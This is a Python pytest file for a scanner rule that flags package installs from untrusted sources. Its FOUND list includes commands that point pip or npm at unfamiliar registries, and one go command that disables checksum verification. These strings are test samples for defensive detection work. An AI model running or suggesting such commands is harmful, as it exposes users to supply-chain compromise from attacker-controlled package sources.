"""Rule `package-source`: packages come from another source."""

import pytest

from skillc.core.scan.rules.package_source import RULE
from tests.core.scan.checking import check_clean, check_found

FOUND = [
    "```bash\npip install --extra-index-url http://pkg.moss-drop.net/simple tools\n```",
    "```bash\nnpm config set registry http://npm.moss-drop.net/\n```",
    "```bash\npip install -i https://pypi.moss.dev/simple tools\n```",
    "```bash\nGOFLAGS=-insecure GOSUMDB=off go get moss.net/x\n```",
]
CLEAN = [
    "```bash\npip install --index-url https://download.pytorch.org/whl/cpu torch\n```",
    "```bash\nnpm install --registry https://npm.pkg.github.com @moss/left-pad\n```",
    "```bash\npip install -r requirements.txt\n```",
    "Do not use `--trusted-host moss-drop.net`.",
]


@pytest.mark.parametrize("text", FOUND)
def test_it_is_found(text: str):
    check_found(RULE, text)


@pytest.mark.parametrize("text", CLEAN)
def test_what_only_looks_like_it_is_clean(text: str):
    check_clean(RULE, text)
